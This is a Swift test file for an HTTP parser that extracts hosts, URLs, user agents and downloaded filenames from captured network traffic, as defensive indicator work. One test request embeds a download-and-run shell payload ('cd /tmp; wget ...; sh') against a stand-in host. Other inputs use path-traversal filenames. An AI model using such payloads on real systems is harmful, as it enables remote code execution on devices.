import Capture
import Indicators
import Inputs
import TestSupport
import Testing

@Suite("HTTP")
struct HTTPTests {
  static func request(_ text: String, port: UInt16 = 80) -> [UInt8] {
    pcap(Packet.segment(Array(text.utf8), to: port))
  }

  @CaseTable static var requests: [CaptureCase] {
    CaptureCase(
      "every header that is read",
      request(
        "GET /a?b=C HTTP/1.1\r\nhost: WWW.Example.com\r\nUser-Agent:  curl/8.0 \r\n"
          + "Referer: https://Ref.example/x\r\n"
          + "X-Forwarded-For: 192.0.2.9, unknown, [2001:db8::9]:99, 192.0.2.10:80, "
          + "\"[2001:db8::a]:81\", 2001:db8::b%eth0\r\n\r\n"),
      [
        "1 http.host www.example.com", "1 http.url http://www.example.com/a?b=C",
        "1 http.user-agent curl/8.0",
        "1 http.referrer https://ref.example/x", "1 http.x-forwarded-for 192.0.2.9",
        "1 http.x-forwarded-for 2001:db8::9:99", "1 http.x-forwarded-for 192.0.2.10:80",
        "1 http.x-forwarded-for 2001:db8::a:81", "1 http.x-forwarded-for 2001:db8::b",
      ])
    CaptureCase(
      "another port gives a second form",
      request("GET / HTTP/1.1\r\nHost: a.example\r\n\r\n", port: 8080),
      [
        "1 http.host a.example", "1 http.url http://a.example/",
        "1 http.url http://a.example:8080/",
      ])
    CaptureCase(
      "a port in the header is the only one",
      request("GET / HTTP/1.1\r\nHost: a.example:8000\r\n\r\n", port: 8080),
      ["1 http.host a.example", "1 http.url http://a.example:8000/"])
    CaptureCase(
      "an address as host keeps the header's port",
      request("GET / HTTP/1.1\r\nHost: 192.0.2.7:8000\r\n\r\n", port: 8000),
      ["1 http.host 192.0.2.7:8000", "1 http.url http://192.0.2.7:8000/"])
    CaptureCase(
      "an IPv6 address as host",
      request("GET / HTTP/1.1\r\nHost: [2001:db8::7]:81\r\n\r\n", port: 81),
      ["1 http.host 2001:db8::7:81", "1 http.url http://[2001:db8::7]:81/"])
    CaptureCase(
      "a host with user information",
      request("GET / HTTP/1.1\r\nHost: user@a.example\r\n\r\n"),
      ["1 http.host a.example", "1 http.url http://a.example/"])
    CaptureCase(
      "a host with a name and a password, and a port",
      request("GET / HTTP/1.1\r\nHost: user:p@ss@evil.example:81\r\n\r\n"),
      ["1 http.host evil.example", "1 http.url http://evil.example:81/"])
    CaptureCase(
      "the same of a target and of a referrer",
      request(
        "GET http://u:p@192.0.2.7:81/ HTTP/1.1\r\nHost: u:p@[2001:db8::7]:82\r\n"
          + "Referer: u:p@r.example:83\r\n\r\n"),
      [
        "1 http.host 192.0.2.7:81", "1 http.url http://192.0.2.7:81/",
        "1 http.host 2001:db8::7:82", "1 http.referrer r.example",
      ])
    CaptureCase(
      "a host with percent units",
      request("GET / HTTP/1.1\r\nHost: %65vil.ex%61mple\r\n\r\n"),
      ["1 http.host evil.example", "1 http.url http://evil.example/"])
    CaptureCase(
      "an address with a zone as host",
      request("GET / HTTP/1.1\r\nHost: [2001:db8::7%25eth0]\r\n\r\n"),
      ["1 http.host 2001:db8::7", "1 http.url http://[2001:db8::7]/"])
    CaptureCase(
      "two hosts are two, the first makes the URL",
      request("GET / HTTP/1.1\r\nHost: a.example\r\nHost: b.example\r\n\r\n"),
      ["1 http.host a.example", "1 http.url http://a.example/", "1 http.host b.example"])
    CaptureCase(
      "the absolute form wins",
      request("GET http://b.example/x HTTP/1.1\r\nHost: a.example\r\n\r\n", port: 3128),
      ["1 http.host b.example", "1 http.url http://b.example/x", "1 http.host a.example"])
    CaptureCase(
      "without host the destination stands for it",
      request("GET /x HTTP/1.0\r\nAccept: */*\r\n\r\n", port: 8080),
      ["1 http.url http://198.51.100.2:8080/x"])
    CaptureCase(
      "without host on IPv6",
      pcap(
        Packet.ethernet(
          Packet.ip(
            Packet.client6, Packet.server6, 6,
            Packet.tcp(50000, 80, utf8("GET /x HTTP/1.0\r\n\r\n"))))),
      ["1 http.url http://[2001:db8::2]/x"])
    CaptureCase(
      "CONNECT yields name and port, no URL",
      request("CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n", port: 3128),
      ["1 http.host evil.example"])
    CaptureCase(
      "CONNECT to an address",
      request("CONNECT 192.0.2.7:443 HTTP/1.1\r\n\r\n", port: 3128),
      ["1 http.host 192.0.2.7:443"])
    CaptureCase(
      "no URL: asterisk, empty and malformed targets",
      request(
        "OPTIONS * HTTP/1.1\r\nHost: a.example\r\n\r\nGET  HTTP/1.1\r\nHost: b.example\r\n\r\n"
          + "GET x/y HTTP/1.1\r\nHost: c.example\r\n\r\n"),
      ["1 http.host a.example", "1 http.host b.example", "1 http.host c.example"])
    CaptureCase(
      "blanks in a target and in a referrer",
      request(
        "GET /shell?cd+/tmp;wget http://b.example/x;sh\tx  HTTP/1.1\r\nHost: a.example\r\n"
          + "Referer: http://c.example/b?title=  two words\r\n\r\n"
          + "GET http://d.example/a b HTTP/1.1\r\n\r\nGET http://e .example/ HTTP/1.1\r\n\r\n"),
      [
        "1 http.host a.example",
        "1 http.url http://a.example/shell?cd+/tmp;wget%20http://b.example/x;sh%09x",
        "1 http.referrer http://c.example/b?title=%20%20two%20words",
        "1 http.host d.example", "1 http.url http://d.example/a%20b",
      ])
    CaptureCase(
      "a header that is there but for its line feed",
      request("GET /x HTTP/1.1\r\nHost: a.example\r"),
      ["1 http.host a.example", "1 http.url http://a.example/x"])
    CaptureCase(
      "a header that may go on", request("GET /x HTTP/1.1\r\nHost: a.example"), [])
    CaptureCase(
      "requests behind one another, with a body between",
      request(
        "POST /1 HTTP/1.1\r\nHost: a.example\r\nContent-Length: 3\r\n\r\nabc"
          + "GET /2 HTTP/1.1\r\nHost: b.example\r\n\r\n"),
      [
        "1 http.host a.example", "1 http.url http://a.example/1", "1 http.host b.example",
        "1 http.url http://b.example/2",
      ])
    CaptureCase(
      "the body of a request for another protocol, with a request behind it",
      request(
        "POST /1 HTTP/1.1\r\nHost: a.example\r\nConnection: Upgrade\r\nUpgrade: tcp\r\n"
          + "Content-Length: 37\r\n\r\nGET /body HTTP/1.1\r\nHost: x.example\r\n"
          + "GET /2 HTTP/1.1\r\nHost: b.example\r\n\r\n"),
      [
        "1 http.host a.example", "1 http.url http://a.example/1", "1 http.host b.example",
        "1 http.url http://b.example/2",
      ])
    CaptureCase(
      "the same in chunks",
      request(
        "POST /1 HTTP/1.1\r\nHost: a.example\r\nUpgrade: websocket\r\n"
          + "Transfer-Encoding: chunked\r\n\r\n16\r\nGET /body HTTP/1.1\r\n\r\n0\r\n\r\n"
          + "GET /2 HTTP/1.1\r\nHost: b.example\r\n\r\n"),
      [
        "1 http.host a.example", "1 http.url http://a.example/1", "1 http.host b.example",
        "1 http.url http://b.example/2",
      ])
    CaptureCase(
      "a coding that is none leaves the length to its header",
      request(
        "POST /1 HTTP/1.1\r\nHost: a.example\r\nTransfer-Encoding: identity\r\n"
          + "Content-Length: 3\r\n\r\nabcGET /2 HTTP/1.1\r\nHost: b.example\r\n\r\n"),
      [
        "1 http.host a.example", "1 http.url http://a.example/1", "1 http.host b.example",
        "1 http.url http://b.example/2",
      ])
    CaptureCase(
      "the last coding tells",
      request(
        "POST /1 HTTP/1.1\r\nHost: a.example\r\nTransfer-Encoding: gzip, Chunked ,\r\n\r\n"
          + "00000000000000000003\r\nabc\r\n0\r\n\r\nGET /2 HTTP/1.1\r\nHost: b.example\r\n\r\n"),
      [
        "1 http.host a.example", "1 http.url http://a.example/1", "1 http.host b.example",
        "1 http.url http://b.example/2",
      ])
    CaptureCase(
      "the rest of a body whose length is wrong, before the next request",
      request(
        "POST /1 HTTP/1.1\r\nHost: a.example\r\nContent-Length: 3\r\n\r\nabcdef\r\n"
          + "GET /2 HTTP/1.1\r\nHost: b.example\r\n\r\n"),
      [
        "1 http.host a.example", "1 http.url http://a.example/1", "1 http.host b.example",
        "1 http.url http://b.example/2",
      ])
    CaptureCase(
      "a length that is said twice is one, two lengths are none",
      request(
        "POST /1 HTTP/1.1\r\nHost: a.example\r\nContent-Length: 3, 3 ,\r\n\r\nGET"
          + "POST /2 HTTP/1.1\r\nHost: b.example\r\nContent-Length: 3,4\r\n\r\n"
          + "GET /3 HTTP/1.1\r\nHost: c.example\r\n\r\n"),
      [
        "1 http.host a.example", "1 http.url http://a.example/1", "1 http.host b.example",
        "1 http.url http://b.example/2", "1 http.host c.example", "1 http.url http://c.example/3",
      ])
    CaptureCase(
      "lengths that no body has are not believed",
      request(
        "POST /1 HTTP/1.1\r\nHost: a.example\r\nContent-Length: 99999999999999999999\r\n\r\nabc"
          + "POST /2 HTTP/1.1\r\nHost: b.example\r\nContent-Length: +3\r\n\r\nabc"
          + "POST /3 HTTP/1.1\r\nHost: c.example\r\nContent-Length: 9223372036854775808\r\n\r\n"
          + "POST /4 HTTP/1.1\r\nHost: d.example\r\nContent-Length: 4294967296\r\n\r\n"
          + "GET /body HTTP/1.1\r\nHost: e.example\r\n\r\n"),
      [
        "1 http.host a.example", "1 http.url http://a.example/1", "1 http.host b.example",
        "1 http.url http://b.example/2", "1 http.host c.example", "1 http.url http://c.example/3",
        "1 http.host d.example", "1 http.url http://d.example/4",
      ])
    CaptureCase(
      "a first line without a version",
      request("GET /gen.php?x=1\r\nHost: a.example\r\nUser-Agent: ua\r\n\r\n"),
      ["1 http.host a.example", "1 http.url http://a.example/gen.php?x=1", "1 http.user-agent ua"])
    CaptureCase(
      "a first line that is all", request("GET /x\r\n"), ["1 http.url http://198.51.100.2/x"])
    CaptureCase(
      "an absolute form without a version", request("GET http://a.example/x\r\n\r\n"),
      ["1 http.host a.example", "1 http.url http://a.example/x"])
    CaptureCase(
      "CONNECT without a version", request("CONNECT a.example:443\r\n\r\n"),
      ["1 http.host a.example"])
    CaptureCase(
      "tabs between its parts", request("GET\t/x\tHTTP/1.1\r\nHost: a.example\r\n\r\n"),
      ["1 http.host a.example", "1 http.url http://a.example/x"])
    CaptureCase(
      "a version of another name", request("GET /x HTTPS/1.1\r\nHost: a.example\r\n\r\n"),
      ["1 http.host a.example", "1 http.url http://a.example/x"])
    CaptureCase(
      "what is no request", request("GET key\r\nHost: a.example\r\n\r\n"), [])
    CaptureCase(
      "nor of another protocol",
      request("OPTIONS /x RTSP/1.0\r\nHost: a.example\r\n\r\n", port: 554), [])
    CaptureCase(
      "a version that is no standard's",
      request("GET / HTTP/1.\r\nHost: a.example\r\n\r\n"),
      ["1 http.host a.example", "1 http.url http://a.example/"])
    CaptureCase(
      "bare line feeds, other methods, another version",
      request("PROPFIND /dav HTTP/1.0\nHost: a.example\n\n"),
      ["1 http.host a.example", "1 http.url http://a.example/dav"])
    CaptureCase(
      "blanks around the target, an empty line before the method",
      request("\r\nGET   /x  HTTP/1.1\r\nHost: a.example\r\n\r\n"),
      ["1 http.host a.example", "1 http.url http://a.example/x"])
    CaptureCase(
      "a body that ends with an empty line too much",
      request(
        "POST /1 HTTP/1.0\r\nContent-Length: 1\r\n\r\nx\r\nGET http://a.example/2 HTTP/1.0\r\n\r\n"),
      [
        "1 http.url http://198.51.100.2/1", "1 http.host a.example",
        "1 http.url http://a.example/2",
      ])
    CaptureCase(
      "a continued header",
      request("GET / HTTP/1.1\r\nHost:\r\n a.example\r\nUser-Agent: a\r\n\tb\r\n\r\n"),
      [
        "1 http.host a.example", "1 http.url http://a.example/", "1 http.user-agent a b",
      ])
    CaptureCase(
      "a body that begins with a blank",
      request("POST /1 HTTP/1.1\r\nHost: a.example\r\nContent-Length: 2\r\n\r\n x"),
      ["1 http.host a.example", "1 http.url http://a.example/1"])
    CaptureCase(
      "a blank behind the version",
      request("GET /x HTTP/1.1 \r\nHost: a.example\r\n\r\n"),
      ["1 http.host a.example", "1 http.url http://a.example/x"])
    CaptureCase(
      "an address with a trailing dot is one",
      request("GET * HTTP/1.1\r\nHost: 192.0.2.7.:8000\r\n\r\n"),
      ["1 http.host 192.0.2.7:8000"])
    CaptureCase(
      "a referrer without a path is a name or an address",
      request(
        "GET * HTTP/1.1\r\nReferer: R.example\r\nReferer: 192.0.2.8:81\r\nReferer: a b\r\n\r\n"),
      ["1 http.referrer r.example", "1 http.referrer 192.0.2.8:81"])
    CaptureCase(
      "a head that is cut: what is complete",
      request("GET /x HTTP/1.1\r\nUser-Agent: a\r\nHost: a.exam"),
      ["1 http.user-agent a"])
    CaptureCase(
      "a head that is cut behind the host",
      request("GET /x HTTP/1.1\r\nHost: a.example\r\nCook"),
      ["1 http.host a.example", "1 http.url http://a.example/x"])
    CaptureCase(
      "a host that is none",
      request("GET / HTTP/1.1\r\nHost: A B\r\n\r\n"), ["1 http.host a b"])
    CaptureCase(
      "a response gives nothing",
      request("HTTP/1.1 200 OK\r\nHost: a.example\r\n\r\n"), [])
    CaptureCase(
      "text that is no request",
      request("GET me out of here\r\nHost: a.example\r\n\r\n"), [])
    CaptureCase(
      "SSDP: host and user agent",
      pcap(
        Packet.ethernet(
          Packet.ip(
            Packet.client, [239, 255, 255, 250], 17,
            Packet.udp(
              50000, 1900,
              Array(
                ("M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\n"
                  + "User-Agent: x/1\r\nReferer: http://a.example/\r\n\r\n").utf8))))),
      ["1 http.host 239.255.255.250:1900", "1 http.user-agent x/1"])
  }

  @Test("a continued header, cut anywhere")
  func continued() {
    let text =
      "GET /y HTTP/1.1\r\nHost:\r\n b.example\r\nUser-Agent: a\r\n b\r\nReferer:\r\n\thttp://c.example/\r\n"
      + "X-Forwarded-For:\r\n 192.0.2.9\r\n\r\n"
    let expected = [
      "http.host b.example", "http.referrer http://c.example/", "http.url http://b.example/y",
      "http.user-agent a b", "http.x-forwarded-for 192.0.2.9",
    ]
    let bytes = utf8(text)
    func values(_ cuts: [Int]) -> [String] {
      let frames = [StreamBuilder().syn] + StreamBuilder().segments(bytes, cuts)
      return Observed(pcap(frames.map { CapturedPacket($0) })).values
        .map { String($0.drop { $0 != " " }.dropFirst()) }.sorted()
    }
    for cut in 1..<bytes.count { #expect(values([cut]) == expected, "cut at \(cut)") }
    #expect(values(Array(1..<bytes.count)) == expected)
  }

  @Test("a header at the end of what there is, in the packet that brought it")
  func lastHeader() {
    let first = utf8("GET /y HTTP/1.1\r\nHost: b.example\r\n")
    let frames = [StreamBuilder().syn, StreamBuilder().segment(first, at: 0)]
    let expected = ["2 http.host b.example", "2 http.url http://b.example/y"]
    #expect(Observed(pcap(frames.map { CapturedPacket($0) })).values == expected)
    let next = StreamBuilder().segment(utf8("Accept: */*\r\n\r\n"), at: first.count)
    #expect(Observed(pcap((frames + [next]).map { CapturedPacket($0) })).values == expected)
  }

  @Test("requests", arguments: requests)
  func request(_ test: CaptureCase) {
    #expect(Observed(test.capture).values == test.expected)
  }

  @Test("kinds and flags of what a request gives")
  func flags() throws {
    let file = Self.request(
      "GET / HTTP/1.1\r\nHost: a.example\r\nUser-Agent: x\r\n\r\n", port: 81)
    let reader = try CaptureReader(source: InputSource(bytes: file, path: "test"))
    var batch = ObservableBatch()
    while try reader.fill(&batch) {}
    let last = batch.observables.dropFirst(2)
    #expect(last.map(\.kind) == [.domain, .url, .url, .userAgent])
    let flags: [ObservableFlags] = [
      .inArena, [.inArena, .httpURL], [.inArena, .httpURL, .joint], [.inArena, .ownField],
    ]
    #expect(last.map(\.flags.rawValue) == flags.map(\.rawValue))
    #expect(last.map(\.schemeLength) == [0, 7, 7, 0])
  }

  @Test("a segment sent again yields nothing, another one in its place does")
  func retransmission() {
    let first = Packet.segment(
      utf8("GET /1 HTTP/1.1\r\nHost: a.example\r\n\r\n"), to: 80, sequence: 5)
    let changed = Packet.segment(
      utf8("GET /2 HTTP/1.1\r\nHost: a.example\r\n\r\n"), to: 80, sequence: 5)
    let observed = Observed(pcap(first, first, changed, changed))
    #expect(
      observed.values == [
        "1 http.host a.example", "1 http.url http://a.example/1", "3 http.host a.example",
        "3 http.url http://a.example/2",
      ])
    #expect(observed.counts["tcp-retransmission"] == 2)
  }

  @Test("a host of percent units in percent units", .timeLimit(.minutes(1)))
  func manyUnits() {
    let host = "%" + String(repeating: "25", count: 15_000)
    let values = Observed(
      pcap(
        Packet.segment(utf8("GET / HTTP/1.1\r\nHost: \(host)\r\n\r\n"), to: 80, sequence: 1))
    ).values
    #expect(values == ["1 http.host \(host)"])
    // Units are undone once.
    #expect(
      Observed(
        pcap(
          Packet.segment(utf8("GET * HTTP/1.1\r\nHost: %2561.example\r\n\r\n"), to: 80, sequence: 1)
        )
      ).values == ["1 http.host %2561.example"])
  }

  @Test(
    "the answer to a HEAD has no body, also where the next one stands behind it",
    arguments: ["Content-Length: 5000", "Transfer-Encoding: chunked"])
  func answersToHead(_ announced: String) {
    let answers = utf8(
      "HTTP/1.1 200 OK\r\n\(announced)\r\n\r\nHTTP/1.1 200 OK\r\n"
        + "Content-Disposition: attachment; filename=a.exe\r\nContent-Length: 5\r\n\r\nabcde")
    let stream = StreamBuilder(back: true)
    let next = answers.firstIndex(of: 0x0a)! + announced.utf8.count + 5
    for cuts in [[], [17], [next], [next + 60]] {
      let frames = [stream.syn] + stream.segments(answers, cuts)
      let values = Observed(pcap(frames.map { CapturedPacket($0) })).values
      #expect(values.map { $0.dropFirst(2) } == ["http.filename a.exe"], "\(cuts)")
    }
  }

  @Test(
    "methods of several words, and in small letters, whose line goes on in the next segment",
    arguments: ["VERSION-CONTROL", "RPC_IN_DATA", "get"])
  func cutMethods(_ method: String) {
    let request = utf8(
      "\(method) /\(String(repeating: "a", count: 100)) HTTP/1.1\r\nHost: a.example\r\n\r\n")
    let stream = StreamBuilder()
    for cut in [method.utf8.count + 2, 60, 100] {
      let frames = [stream.syn] + stream.segments(request, [cut])
      let values = Observed(pcap(frames.map { CapturedPacket($0) })).values
      #expect(values.contains("3 http.host a.example"), "\(cut)")
    }
  }

  /// Values of `Content-Disposition` and the names in them.
  private static let dispositions: [(value: String, names: [String])] = [
    ("attachment; filename=\"evil file.exe\"", ["evil file.exe"]),
    ("ATTACHMENT;FileName = evil.exe ; x=y", ["evil.exe"]),
    ("attachment; filename=\"a;b=\\\"c\\\".exe\"; size=1", ["a;b=\"c\".exe"]),
    ("attachment; filename*=UTF-8''na%C3%AFve%20file.exe", ["na\u{ef}ve file.exe"]),
    ("attachment; filename*=iso-8859-1'en'na%EFve.exe", ["na\u{ef}ve.exe"]),
    (
      "attachment; filename=\"EURO.exe\"; filename*=utf-8''%e2%82%ac.exe",
      ["EURO.exe", "\u{20ac}.exe"]
    ),
    ("attachment; filename=\"same.exe\"; filename*=UTF-8''same.exe", ["same.exe"]),
    ("attachment; filename=\"C:\\temp\\evil.exe\"", ["evil.exe"]),
    ("inline; filename*=UTF-8''..%2F..%2Fetc%2Fevil.sh", ["evil.sh"]),
    ("attachment; filename=\"open.exe", ["open.exe"]), ("attachment; filename*=none", []),
    ("attachment; filename=\"\"; filename=dir/", []), ("attachment", []), ("filename=x.exe", []),
    ("form-data; name=\"filename=x.exe\"; other", []), ("attachment; filename=%", ["%"]),
    ("attachment; filename*=UTF-8''%zz%4", ["%zz%4"]),
  ]

  @Test("names of files in answers, wherever the head is cut", arguments: 0..<17)
  func fileNames(_ number: Int) {
    let (value, names) = Self.dispositions[number]
    let head = utf8(
      "HTTP/1.1 200 OK\r\nServer: x\r\nContent-Disposition: \(value)\r\nContent-Length: 9\r\n\r\n")
    let body = utf8("GET / HTTP/1.1\r\nHost: no.example\r\n\r\n")
    let stream = StreamBuilder(back: true)
    func seen(_ frames: [[UInt8]]) -> [String] {
      Observed(pcap(frames.map { CapturedPacket($0) })).values
    }
    func expected(at packet: Int) -> [String] { names.map { "\(packet) http.filename \($0)" } }
    let whole = stream.segment(join(head, body), at: 0)
    #expect(seen([whole]) == expected(at: 1))
    #expect(seen([whole, whole]) == expected(at: 1))
    for cut in 1..<head.count {
      let frames = [stream.syn] + stream.segments(join(head, body), [cut])
      let values = seen(frames).map { String($0.dropFirst(2)) }
      #expect(values == expected(at: 1).map { String($0.dropFirst(2)) }, "cut at \(cut)")
      #expect(seen(frames + [frames[1], frames[2]]).count == names.count, "cut at \(cut)")
    }
    // What is not wanted is not looked for.
    var options = CaptureOptions()
    options.kinds.subtract(IndicatorKindSet(.filename))
    #expect(Observed(pcap(whole), options).values == [])
  }

  @Test("a later answer whose first segment is short", arguments: 1...16)
  func shortSegmentOfAnAnswer(_ cut: Int) {
    let stream = StreamBuilder(back: true)
    let first = utf8("HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nbody")
    let second = utf8(
      "HTTP/1.1 200 OK\r\nContent-Disposition: attachment; filename=b.exe\r\nContent-Length: 4\r\n\r\n"
    )
    let frames =
      [stream.syn] + stream.segments(first + second, [first.count, first.count + cut])
    let values = Observed(pcap(frames.map { CapturedPacket($0) })).values
    #expect(values == ["4 http.filename b.exe"])
  }

  @Test("names of files in later answers, in those behind others, and in requests")
  func moreFileNames() {
    func answer(_ name: String, _ length: Int) -> [UInt8] {
      utf8(
        "HTTP/1.1 200 OK\r\nContent-Disposition: attachment; filename=\(name)\r\n"
          + "Content-Length: \(length)\r\n\r\n")
    }
    let stream = StreamBuilder(back: true)
    let first = join(utf8("HTTP/1.1 100 Continue\r\n\r\n"), answer("a.exe", 4), utf8("body"))
    let both = join(first, answer("b.exe", 4000), zeros(100))
    let third = answer("c.exe", 0)
    let observed = Observed(
      pcap([
        CapturedPacket(stream.syn), CapturedPacket(stream.segment(both, at: 0)),
        CapturedPacket(stream.segment(zeros(3900), at: both.count)),
        CapturedPacket(stream.segment(third, at: both.count + 3900)),
      ]))
    #expect(
      observed.values == [
        "2 http.filename a.exe", "2 http.filename b.exe", "4 http.filename c.exe",
      ]
    )
    #expect(
      Observed(
        Self.request(
          "PUT / HTTP/1.1\r\nHost: a.example\r\nContent-Disposition: form-data; filename=\"u.exe\"\r\n\r\n"
        )
      ).values.last == "1 http.filename u.exe")
  }

  @Test("an answer that begins in a segment with the tail of another, wherever both are cut")
  func answersTogether() {
    let stream = StreamBuilder(back: true)
    let last = utf8(
      "HTTP/1.1 200 OK\r\nContent-Disposition: attachment; filename=b.exe\r\n\r\n")
    for first in [
      "HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nabc",
      "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n",
      "HTTP/1.1 304 Not Modified\r\nContent-Length: 3\r\n\r\n",
    ] {
      let bytes = join(utf8(first), last)
      for cut in 1..<bytes.count {
        let frames = [stream.syn] + stream.segments(bytes, [cut])
        let values = Observed(pcap(frames.map { CapturedPacket($0) })).values
        #expect(
          values.map { String($0.dropFirst(2)) } == ["http.filename b.exe"],
          "\(first) cut at \(cut)")
      }
    }
  }

  @Test("a head longer than the limit is read up to it")
  func limit() {
    var options = CaptureOptions()
    options.httpHeaderLimit = 60
    let observed = Observed(
      Self.request(
        "GET / HTTP/1.1\r\nHost: a.example\r\nX: " + String(repeating: "x", count: 60)
          + "\r\nUser-Agent: y\r\n\r\n"), options)
    #expect(observed.values == ["1 http.host a.example", "1 http.url http://a.example/"])
    #expect(observed.counts["http-header-limit"] == 1)
  }
}
